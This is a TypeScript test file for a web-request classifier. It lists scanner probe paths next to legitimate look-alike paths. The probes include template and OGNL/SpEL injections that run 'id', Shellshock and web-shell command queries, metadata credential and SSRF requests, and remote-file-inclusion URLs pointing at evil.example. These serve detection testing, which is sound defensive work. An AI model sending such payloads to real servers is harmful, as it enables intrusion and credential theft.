// Families added for issue 11 (item 3), each by what makes a probe rather than
// by line: positives that must be scanners of the family, and the legitimate
// look-alikes next to them that must not be (a real user is never flagged).
import t from 'tap'
import { classifyPathVerdict } from '../lib/classify/classify'

const groups: Array<{ name: string, rule: string, certain: boolean, probes: string[], legit: string[] }> = [
  {
    name: 'open-proxy tests (absolute and authority form)',
    rule: 'open-proxy',
    certain: true,
    probes: ['http://example.com/', 'https://www.google.com/', 'HTTP://ip-api.com/json', 'www.google.com:443',
      'example.com:80', '1.2.3.4:8080', '[2001:db8::1]:443', 'http://1.2.3.4:80/proxy-check'],
    legit: ['/', '*', '/http://example.com', '/host:443', 'example.com', 'example.com:', 'example.com:123456',
      'http:', 'mailto:someone@example.com']
  },
  {
    name: 'DNS-over-HTTPS queries',
    rule: 'dns-over-https',
    certain: true,
    probes: ['/dns-query?dns=q80BAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB', '/dns-query?name=example.com&type=A',
      '/resolve?name=example.com&type=A', '/resolve?type=AAAA&name=example.org', '/resolve?name=x.com&type=28',
      '/doh/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE', '/DNS-QUERY?dns=AAAB'],
    legit: ['/resolve', '/resolve?name=invoice-42', '/resolve?name=x&type=user', '/resolve?id=3&type=a-b',
      '/dns-query', '/docs/dns-query?dns=1', '/tools/resolve?name=example.com&type=A', '/dns?name=example.com&type=A']
  },
  {
    name: 'numbered diagnostic scripts and ?phpinfo',
    rule: 'info-leak',
    certain: false,
    probes: ['/info3.php', '/test7.php', '/TEST12.PHP', '/phpinfo_2.php', '/php-info1.php', '/test_1.php',
      '/tst2.php', '/infos9.php', '/?phpinfo=1', '/index.php?phpinfo', '/debug1.php'],
    legit: ['/test7.html', '/info3', '/contest7.php', '/information3.php', '/testimonials2.php', '/infographic1.php',
      '/?info=1', '/search?q=phpinfo+1', '/blog/test-1.php', '/p/info2.php']
  },
  {
    name: 'debug consoles of PHP frameworks wherever mounted',
    rule: 'framework',
    certain: false,
    probes: ['/web/debug/default/view', '/backend/web/debug/default/view?panel=config', '/debug/default/view',
      '/index.php?r=debug/default/view', '/web/gii/', '/_debugbar/open', '/app/__clockwork/latest',
      '/index.php?r=gii/model'],
    legit: ['/debug', '/blog/debugging-node/', '/docs/debug/', '/gii-dental/', '/?r=dashboard']
  },
  {
    name: 'application config and source files at the web root',
    rule: 'config-file',
    certain: false,
    probes: ['/config/default.json', '/config/production.json', '/config/local.yml', '/app/config/development.json',
      '/app.py', '/main.py', '/server.rb', '/main.go', '/src/app.py', '/api/views.py', '/App.java'],
    legit: ['/config', '/config/', '/config/profile', '/settings/config', '/app.js', '/main.js', '/server.js.map',
      '/config/default.js', '/downloads/tools/script.py', '/blog/python/app.py-explained', '/docs/src/main.py',
      '/static/config.json']
  },
  {
    name: 'login pages under an appliance vendor\'s folder',
    rule: 'vendor-app',
    certain: false,
    probes: ['/fortinet/login', '/sonicwall/login.html', '/Citrix/Login', '/vpn/logon.html', '/pfsense/index.php/login',
      '/zimbra/login.jsp'],
    legit: ['/cisco/', '/fortinet/products', '/partners/fortinet/login', '/login', '/vpn/', '/vpn/pricing',
      '/cisco/login-help']
  },
  {
    name: 'OGNL, SpEL and template payloads',
    rule: 'injection',
    certain: true,
    probes: ['/?x=%7B%7B7*7%7D%7D', '/?x=%24%7B3*3%7D', '/?name={{\'\'.__class__.__mro__[1].__subclasses__()}}',
      '/index.action?redirect:%24%7B%23a%3Dnew%20java.lang.ProcessBuilder(%7B%27id%27%7D).start()%7D',
      '/%24%7B%40java.lang.Runtime%40getRuntime().exec(%22id%22)%7D/',
      '/?q=%25%7B(%23dm%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS)%7D',
      '/?x=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D', '/?t=%24%7Bscript:javascript:1%7D',
      '/language/Swedish${IFS}&&echo${IFS}610cker>qt&&tar${IFS}/string.js'], // eslint-disable-line no-template-curly-in-string
    legit: ['/{{item.link}}', '/%7B%7Burl%7D%7D', '/products/{{ product.handle }}', '/?sort=price*2',
      '/search?q=7*7', '/blog/ognl-injection-explained']
  },
  {
    name: 'scripts and data files in a configuration folder',
    rule: 'config-file',
    certain: false,
    probes: ['/config/app.php', '/config/database.php', '/conf/db.ini', '/app/conf/app.conf', '/configs/mail.inc'],
    legit: ['/config/index.html', '/config/logo.png', '/configure', '/config/users', '/conference/talks.html',
      '/conf/2024/schedule.php', '/config/2024/notes.php']
  },
  {
    name: 'a web shell asked to run a command',
    rule: 'injection',
    certain: true,
    probes: ['/shell.php?cmd=id', '/x?cmd=ls%20-la', '/about.php?exec=whoami', '/up.php?x=1&command=uname%20-a',
      '/a.php?cmd=cat%20/etc/hosts', '/admin/bootstrap.inc.php?mgp=x&c=whoami', '/x?a=1;whoami', '/x?a=1%7Cbusybox%20wget'],
    legit: ['/x?command=identify', '/x?cmd=directory', '/help?cmd=list', '/x?execute=idle', '/search?q=cmd%3Dls',
      '/search?q=whoami', '/search?q=busybox', '/search?q=uname%20-a', '/files?path=C:/Users/me']
  },
  {
    name: 'cloud metadata and request-forgery tests',
    rule: 'open-proxy',
    certain: true,
    probes: ['/latest/meta-data/iam/security-credentials/', '/proxy?url=http://169.254.169.254/latest/meta-data/',
      '/computeMetadata/v1/instance/', '/fetch?u=http://metadata.google.internal/computeMetadata/v1/'],
    legit: ['/latest/news', '/blog/latest/', '/metadata', '/docs/aws/instance-metadata']
  },
  {
    name: 'Struts prefix parameters and Shellshock',
    rule: 'injection',
    certain: true,
    probes: ['/index.action?redirect:http://x', '/x?action:%25%7B3*4%7D', '/cgi-bin/test.cgi?x=()%20%7B%20:;%20};%20echo',
      '/a.action?redirectAction:%25%7B1%7D'],
    legit: ['/x?action=edit', '/x?redirect=/home', '/search?q=()%20{', '/search?q=function()%20{%20return%201%20}']
  },
  {
    name: 'IIS short-name enumeration',
    rule: 'recon',
    certain: true,
    probes: ['/%2A~1%2A/', '/*~1*/x.html', '/web~1*/'],
    legit: ['/~user/page', '/files/report~1.pdf', '/PROGRA~1.htm']
  },
  {
    name: 'file inclusion only by whole parameter names',
    rule: 'file-inclusion',
    certain: true,
    probes: ['/index.php?page=http://evil.example/x', '/a.php?x=1&include=https://evil.example/shell',
      '/admin/admin_news_bot.php?root_path=https://cirt.net/public/rfiinc.txt?', '/x.php?config[path]=http://e/x'],
    legit: ['/login?redir=https://example.com/', '/x?return_path=https://a.com/b', '/x?next_page=http://a.com',
      '/oauth/callback?redirect_uri=https://app.example.com/', '/share?url=https://example.com/post',
      '/dl.php?file=https://cdn.example.com/doc']
  }
]

for (const g of groups) {
  t.test(g.name, async (t) => {
    for (const path of g.probes) {
      const v = classifyPathVerdict(path)
      t.same([v.classification, v.rule, v.certain], ['scanner', g.rule, g.certain], path)
    }
    for (const path of g.legit) {
      t.not(classifyPathVerdict(path).classification, 'scanner', `legitimate: ${path}`)
    }
  })
}

t.test('versioned and numbered script names are stale API and page paths, not web shells', async (t) => {
  for (const path of ['/api/v1.php', '/api/v2.aspx', '/p1.php', '/v3.php', '/api/v10.jsp', '/page2.php', '/api3.php',
    '/V2.PHP', '/step1.asp', '/2020.php', '/1999.php']) {
    t.not(classifyPathVerdict(path).classification, 'scanner', path)
  }
  // What remains a throwaway shell name: one character, digits alone, digits before letters, names on backdoor lists.
  for (const path of ['/1.php', '/x.php', '/11.php', '/0x.php', '/1a.php', '/a1b.php', '/dz0.php', '/t00.php',
    '/uploads/v1.php']) {
    const v = classifyPathVerdict(path)
    t.same([v.classification, v.rule, v.certain], ['scanner', 'webshell', true], path)
  }
  // An HTTP status page of a moved PHP site is only likely.
  t.same(classifyPathVerdict('/404.php').certain, false, '/404.php')
})
